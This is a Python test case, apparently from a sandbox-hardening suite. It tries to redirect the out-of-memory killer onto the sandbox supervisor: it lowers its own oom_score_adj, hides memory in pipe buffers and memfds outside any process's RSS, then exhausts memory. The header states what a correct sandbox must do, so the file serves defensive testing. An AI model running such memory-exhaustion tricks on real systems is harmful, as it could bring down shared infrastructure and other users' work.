# ATTACK 121 oom_redirect
# KIND: containment
# ATTEMPTS: steer the OOM killer at the supervisor: lower its own oom_score_adj (to -1000, else
#           back to 0), then hold the job's memory where no process's RSS shows it (pipe buffers,
#           unmapped memfds, /dev/shm) and allocate until the sandbox's memory is gone, so the
#           biggest process left is the fork server or the zygote.
# CORRECT SANDBOX MUST: the job pays for its own memory: the run ends memory_limit (or ok/killed),
#           never a sandbox error, and the pool keeps grading correctly.
# HARNESS CHECK: no sandbox_error; the pool still runs jobs and grades correct add passing.
import contextlib
import fcntl
import os

for value in ("-1000", "-500", "0"):
    try:
        with open("/proc/self/oom_score_adj", "w") as f:
            f.write(value)
        print(f"ATTACK_INFO: oom_score_adj set to {value}", flush=True)
        break
    except OSError as e:
        print(f"ATTACK_INFO: oom_score_adj {value} -> {e!r}", flush=True)
held, total = [], 0
chunk = b"\x11" * (1 << 20)
try:
    for _ in range(200):
        r, w = os.pipe()
        fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(w, False)
        with contextlib.suppress(OSError):
            total += os.write(w, chunk)
        held += [r, w]
except OSError as e:
    print(f"ATTACK_INFO: pipes stopped: {e!r}", flush=True)
for i in range(8):
    try:
        fd = os.memfd_create(f"m{i}")
        for _ in range(60):
            total += os.write(fd, chunk)
        held.append(fd)
    except OSError:
        break
print(f"ATTACK_INFO: holding {total >> 20} MiB outside any RSS", flush=True)
grab = []
try:
    while True:
        grab.append(b"\x22" * (8 << 20))
except MemoryError:
    print("ATTACK_INFO: MemoryError", flush=True)
print("ATTACK_RESULT: see harness")
